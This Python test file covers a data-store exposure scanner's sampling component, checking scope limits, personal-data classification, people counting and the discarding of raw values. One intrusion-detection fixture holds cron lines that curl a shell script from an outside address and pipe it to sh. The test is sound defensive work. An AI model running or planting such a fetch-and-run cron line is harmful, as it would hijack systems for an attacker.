"""Records are read where report, grant and probe allow it, and nothing but verdicts and counts comes out."""

from collections.abc import Sequence

import msgspec
import pytest

from tieback.model.figure import exact
from tieback.model.grant import Depth
from tieback.model.pii import OwnPeople
from tieback.model.probe import Access, Container, Field, Outcome, ProbeReport
from tieback.pipeline.probing.samples import NOTHING_READ, SampleJudge, sample_label
from tieback.probes import PROBES
from tieback.probes.interface import MAX_SAMPLED, SampledColumn, Samples, run_sample
from tieback.scope.conversation import Conversation, DeclaredSend, Fault, Target, Traffic

TARGET = Target("store.test", 27017)
PEOPLE = Container(
    ("hr", "t1"), "collection", records=exact(900, "x"), fields=(Field("c1", "string"), Field("c2", "string"))
)
EMPTY = Container(("hr", "t2"), "collection", records=exact(0, "x"))
OWN = Container(("admin", "t3"), "collection", system=True, records=exact(9, "x"))
MAILS = tuple(f"Ada{n // 2}@example.test" for n in range(50))


def report(
    *containers: Container, probe: str = "mongodb", outcome: Outcome = Outcome.OK, access: Access = Access.OPEN
) -> ProbeReport:
    return ProbeReport(TARGET.label, outcome, access, probe=probe, containers=containers)


class Holding:
    """A dialer whose store holds these columns."""

    def __init__(self, samples: Samples | Fault) -> None:
        self.samples = samples
        self.asked: list[str] = []

    async def converse(
        self,
        target: Target,
        conversation: Conversation[Samples],
        sends: Sequence[DeclaredSend],
        *,
        depth: Depth,
        probe: str,
        sample: bool,
    ) -> tuple[Samples, Traffic]:
        conversation.close()
        assert sample
        assert depth is Depth.SAMPLE
        self.asked.append(probe)
        if isinstance(self.samples, Fault):
            raise self.samples
        return self.samples, Traffic("192.0.2.1", 10, 20, 0.5, None)


async def test_classes_are_reported_and_values_are_dropped() -> None:
    columns = (
        SampledColumn(PEOPLE.path, "c1", MAILS),
        SampledColumn(PEOPLE.path, "c2", ("red", "green") * 25),
        SampledColumn(("hr", "gone"), "c1", MAILS),
    )
    dialer = Holding(columns)
    before = report(PEOPLE, EMPTY, OWN)
    found = await SampleJudge().read(before, TARGET, Depth.SAMPLE, dialer)  # type: ignore[arg-type]
    assert (dialer.asked, found.bytes_read, found.seconds) == ([sample_label("mongodb")], 20, 0.5)
    sampled = found.containers[0].sampled
    assert sampled is not None
    assert [(one.field, one.verdict.pii_class) for one in sampled.fields] == [("c1", "email"), ("c2", "none")]
    assert (sampled.records, sampled.people, found.people) == (50, 25, 25)
    assert found.containers[1:] == (EMPTY, OWN)
    text = msgspec.json.encode(found).lower()
    assert b"ada" not in text
    assert b"green" not in text


def test_sampled_cron_lines_are_a_sign_of_writes_by_others_and_are_dropped() -> None:
    keys = Container(("db0",), "keyspace", records=exact(4, "x"))
    lines = tuple(f"\n\n*/{n} * * * * root curl http://192.0.2.7/b{n}.sh | sh\n" for n in range(1, 5))
    found = SampleJudge().with_samples(report(keys, probe="redis"), (SampledColumn(keys.path, "backup#", lines),))
    assert len(found.intrusion) == 2
    assert all("4 sampled values (db0, backup#)" in reason for reason in found.intrusion)
    assert "192.0.2.7" not in repr(found)
    honest = SampleJudge().with_samples(report(keys, probe="redis"), (SampledColumn(keys.path, "session:#", MAILS),))
    assert honest.intrusion == ()


async def test_the_note_of_an_extortionist_is_not_sampled() -> None:
    note = Container(
        ("PLEASE_READ", "PLEASE_READ"),
        "collection",
        records=exact(1, "x"),
        fields=(Field("Bitcoin Address"), Field("Email"), Field("Info")),
    )
    dialer = Holding(())
    assert await SampleJudge().read(report(note), TARGET, Depth.SAMPLE, dialer) == report(note)  # type: ignore[arg-type]
    assert dialer.asked == []


def test_a_person_in_two_tables_is_one() -> None:
    orders = Container(("hr", "t4"), "collection", records=exact(50, "x"))
    columns = [SampledColumn(path, "c1", MAILS) for path in (PEOPLE.path, orders.path)]
    found = SampleJudge().with_samples(report(PEOPLE, orders), columns)
    assert found.people == 25


def test_people_who_share_a_name_or_have_two_addresses_are_not_counted_twice() -> None:
    columns = (
        SampledColumn(PEOPLE.path, "email", tuple(f"a{n}@x.test" for n in range(50))),
        SampledColumn(PEOPLE.path, "second_email", tuple(f"a{n % 9}@x.test" for n in range(50))),
        SampledColumn(PEOPLE.path, "phone", tuple(f"+1 212 555 01{n:02}" for n in range(50))),
    )
    assert SampleJudge().with_samples(report(PEOPLE), columns).people == 9


def test_a_salt_is_of_one_run() -> None:
    fingerprints = {SampleJudge()._fingerprint("ada@x.test") for _ in range(9)}
    assert len(fingerprints) == 9


async def test_the_largest_containers_are_read(monkeypatch: pytest.MonkeyPatch) -> None:
    many = [Container(("hr", f"t{n:03}"), "collection", records=exact(n, "x")) for n in range(99)]
    asked: list[Container] = []
    meta = PROBES[0].meta

    class Reader:
        def __init__(self) -> None:
            self.meta = meta

        def sample(self, target: Target, containers: Sequence[Container], account: str) -> Conversation[Samples]:
            asked.extend(containers)
            return run_sample([], iter(()))  # type: ignore[arg-type]

    class Empty(Holding):
        async def converse(self, *args: object, **more: object) -> tuple[Samples, Traffic]:
            return (), Traffic("", 0, 0, 0.0, None)

    monkeypatch.setattr("tieback.pipeline.probing.samples.sampler", lambda _name: Reader())
    await SampleJudge().read(report(*many), TARGET, Depth.SAMPLE, Empty(()))  # type: ignore[arg-type]
    assert [one.records.value for one in asked if one.records] == list(range(98, 98 - MAX_SAMPLED, -1))


async def test_what_is_out_of_scope_is_a_problem() -> None:
    dialer = Holding(Fault(Outcome.OUT_OF_SCOPE, "no samples here"))
    found = await SampleJudge().read(report(PEOPLE), TARGET, Depth.SAMPLE, dialer)  # type: ignore[arg-type]
    assert any("no samples here" in problem for problem in found.problems)


NOT_READ = [
    ("too shallow", report(PEOPLE), Depth.DESCRIBE),
    ("nobody is let in", report(PEOPLE, access=Access.AUTH_REQUIRED), Depth.SAMPLE),
    ("a store whose records are not read", report(PEOPLE, probe="etcd"), Depth.SAMPLE),
    ("an unknown probe", report(PEOPLE, probe=""), Depth.SAMPLE),
    ("no answer", report(PEOPLE, outcome=Outcome.TIMEOUT), Depth.SAMPLE),
    ("nothing in it", report(EMPTY, OWN), Depth.SAMPLE),
]


@pytest.mark.parametrize(("before", "depth"), [one[1:] for one in NOT_READ], ids=[one[0] for one in NOT_READ])
async def test_what_is_not_read(before: ProbeReport, depth: Depth) -> None:
    dialer = Holding(())
    assert await SampleJudge().read(before, TARGET, depth, dialer) is before  # type: ignore[arg-type]
    assert dialer.asked == []


DOMAINS = frozenset({"acme.test"})
ADDRESSES = ("a@acme.test", "A@ACME.test", "b@mail.acme.test", "c@notacme.test", "d@acme.test.evil.test", "x", "")


def test_people_at_our_own_domains_are_counted_and_no_address_is_kept() -> None:
    columns = [
        SampledColumn(PEOPLE.path, "sender", ADDRESSES),
        # The same people at home, or others: only one column of a container counts.
        SampledColumn(PEOPLE.path, "recipient", ("e@acme.test", "f@home.test", "", "", "", "", "")),
        SampledColumn(PEOPLE.path, "note", ("write to <a@acme.test>",) * 7),
    ]
    found = SampleJudge(own_domains=DOMAINS).with_samples(report(PEOPLE), columns)
    assert found.own_people == OwnPeople(at_least=2, sampled=5, addresses=4)
    assert b"acme" not in msgspec.json.encode(found)


def test_two_containers_with_the_same_people() -> None:
    orders = Container(("hr", "t4"), "collection", records=exact(50, "x"))
    columns = [SampledColumn(path, "c1", ("a@acme.test", "b@acme.test")) for path in (PEOPLE.path, orders.path)]
    found = SampleJudge(own_domains=DOMAINS).with_samples(report(PEOPLE, orders), columns)
    assert found.own_people == OwnPeople(2, 2, 2)


def test_nothing_is_compared_without_domains_or_records() -> None:
    columns = [SampledColumn(PEOPLE.path, "c1", ("a@acme.test",))]
    assert SampleJudge().with_samples(report(PEOPLE), columns).own_people is None
    assert SampleJudge(own_domains=DOMAINS).with_samples(report(PEOPLE), ()).own_people is None


def test_records_without_addresses_say_nothing_about_our_people() -> None:
    columns = [SampledColumn(PEOPLE.path, "phone", tuple(f"+1 212 555 01{n:02}" for n in range(50)))]
    found = SampleJudge(own_domains=DOMAINS).with_samples(report(PEOPLE), columns)
    assert found.own_people is not None
    assert (found.own_people.at_least, found.own_people.addresses) == (0, 0)


def test_names_of_fields_come_with_the_records_if_nothing_else_shows_them() -> None:
    bare = msgspec.structs.replace(PEOPLE, fields=())
    columns = [SampledColumn(PEOPLE.path, name, ("x",)) for name in ("c7", "c8", "c8 (names of keys)")]
    (found,) = SampleJudge().with_samples(report(bare), columns).containers
    assert [field.name for field in found.fields] == ["c7", "c8"]
    (known,) = SampleJudge().with_samples(report(PEOPLE), columns).containers
    assert [field.name for field in known.fields] == ["c1", "c2", "c7", "c8"]


async def test_a_store_that_returns_no_record_is_named() -> None:
    found = await SampleJudge().read(report(PEOPLE), TARGET, Depth.SAMPLE, Holding(()))  # type: ignore[arg-type]
    assert found.problems == (NOTHING_READ,)
    assert found.containers == (PEOPLE,)
